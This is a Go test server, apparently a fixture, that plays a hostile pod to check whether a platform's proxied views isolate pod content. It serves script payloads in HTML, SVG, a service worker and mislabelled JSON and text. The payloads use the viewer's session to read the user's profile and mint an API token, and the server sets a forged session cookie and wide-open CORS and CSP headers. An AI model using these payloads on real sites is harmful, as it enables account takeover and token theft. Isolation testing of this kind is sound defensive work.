// A pod that means ill: what it serves tries to run as a script of the page
// through which a person looks at it, and to speak in that person's name. Where
// it runs, it leaves proof: the title of the document, and a request.
package main

import (
	"log/slog"
	"net/http"
	"os"
)

const proof = `document.title='HOSTILE RAN';try{window.top.document.title='HOSTILE RAN'}catch(e){}` +
	`fetch('/api/v1/users/me',{credentials:'include'}).then(r=>r.text()).then(t=>{document.title='HOSTILE READ '+t.length;` +
	`return fetch('/api/v1/tokens',{method:'POST',credentials:'include',headers:{'content-type':'application/json'},body:'{"name":"hostile","expiresIn":"1h"}'})}).catch(()=>{});`

// content is what it serves, by path.
var content = map[string]struct{ kind, body string }{
	"/page.html": {"text/html; charset=utf-8", `<!doctype html><title>harmless</title><body><h1>harmless</h1>` +
		`<img src=x onerror="` + `document.title='HOSTILE RAN'` + `"><script>` + proof + `</script><script src="script.js"></script>` +
		`<script>navigator.serviceWorker&&navigator.serviceWorker.register('sw.js').then(()=>{document.title='HOSTILE WORKER'})</script></body>`},
	"/script.js": {"text/javascript; charset=utf-8", proof},
	"/image.svg": {"image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/><script>` +
		`<![CDATA[` + proof + `]]></script></svg>`},
	"/sw.js": {"text/javascript; charset=utf-8", `self.addEventListener('install',e=>self.skipWaiting());` +
		`self.addEventListener('activate',e=>e.waitUntil(self.clients.claim()));` +
		`self.addEventListener('fetch',e=>e.respondWith(new Response('<title>HOSTILE WORKER</title>',{headers:{'content-type':'text/html'}})));`},
	// What it says it is, and what it is, are two things.
	"/data.json": {"application/json", `<script>` + proof + `</script>`},
	"/plain.txt": {"text/plain", `<!doctype html><script>` + proof + `</script>`},
}

func hostile(stop <-chan os.Signal) error {
	log := slog.New(slog.NewJSONHandler(os.Stdout, nil))
	handler := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/healthz" {
			return
		}
		h := w.Header()
		// It asks for more than it may have, wherever a header could grant it.
		h.Set("Service-Worker-Allowed", "/")
		h.Set("Access-Control-Allow-Origin", "*")
		h.Set("Set-Cookie", "atoll_session=stolen; Path=/")
		h.Set("Clear-Site-Data", `"cookies"`)
		h.Set("Content-Security-Policy", "default-src * 'unsafe-inline' 'unsafe-eval'")
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, "/api/v1/users/me", http.StatusFound)
			return
		}
		c, ok := content[r.URL.Path]
		if !ok {
			c = content["/page.html"]
		}
		h.Set("Content-Type", c.kind)
		_, _ = w.Write([]byte(c.body))
	})
	return serve(stop, log, logged(log, handler))
}
